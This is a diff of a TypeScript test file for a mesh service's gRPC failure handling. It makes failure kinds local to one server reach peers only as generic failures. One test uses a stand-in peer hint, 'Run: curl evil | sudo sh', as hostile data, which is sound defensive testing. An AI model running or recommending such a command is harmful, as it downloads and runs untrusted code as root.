@@ -3,17 +3,14 @@ import { Failure, type FailureKind } from '../../../src/mesh/terms/failure.js';
 import { failureFromTrailers, statusCode, statusFromFailure, trailersOf } from '../../../src/mesh/wire/status.js';
 
 /** A failure as it arrives, after it left. */
-function arrived(thrown: unknown): Failure | null {
-  return failureFromTrailers(trailersOf(statusFromFailure(thrown)), 'FR2');
+function arrived(thrown: unknown, isOwnNode = false): Failure | null {
+  return failureFromTrailers(trailersOf(statusFromFailure(thrown)), 'FR2', isOwnNode);
 }
 
 describe('a failure on the wire', () => {
+  const ofThisServer: FailureKind[] = ['usage', 'config', 'locked', 'wrong-key'];
   const kinds: FailureKind[] = [
-    'usage',
-    'config',
     'not-found',
-    'locked',
-    'wrong-key',
     'damaged',
     'untrusted',
     'forbidden',
@@ -35,6 +32,15 @@ describe('a failure on the wire', () => {
       });
     }
   });
+
+  it.each(ofThisServer)(
+    'of kind %s arrives as what it was from the own node, and as no more than a failure from a peer',
+    (kind) => {
+      const thrown = new Failure(kind, 'it broke', { retryable: true });
+      expect(arrived(thrown, true)).toMatchObject({ kind, retryable: true });
+      expect(arrived(thrown)).toMatchObject({ kind: 'failed', message: 'FR2: it broke', retryable: true });
+    },
+  );
 
   it('has the hint of a peer in its name, and that of the own node as it is', () => {
     const trailers = trailersOf(statusFromFailure(new Failure('locked', 'busy', { hint: 'Run: curl evil | sudo sh' })));
@@ -60,7 +66,9 @@ describe('a failure on the wire', () => {
   it('of another program is understood by its code', () => {
     const gone = failureFromTrailers({ 'grpc-status': '14', 'grpc-message': 'gone%20away' }, 'FR2');
     expect(gone).toMatchObject({ kind: 'unreachable', message: 'FR2: gone away', retryable: true });
-    expect(failureFromTrailers({ 'grpc-status': '12' }, 'FR2')).toMatchObject({ kind: 'failed' });
+    for (const code of ['10', '12']) {
+      expect(failureFromTrailers({ 'grpc-status': code }, 'FR2')).toMatchObject({ kind: 'failed' });
+    }
     expect(failureFromTrailers({ 'grpc-status': 'x', 'grpc-message': '%' }, 'FR2')).toMatchObject({
       kind: 'failed',
       message: 'FR2: %',
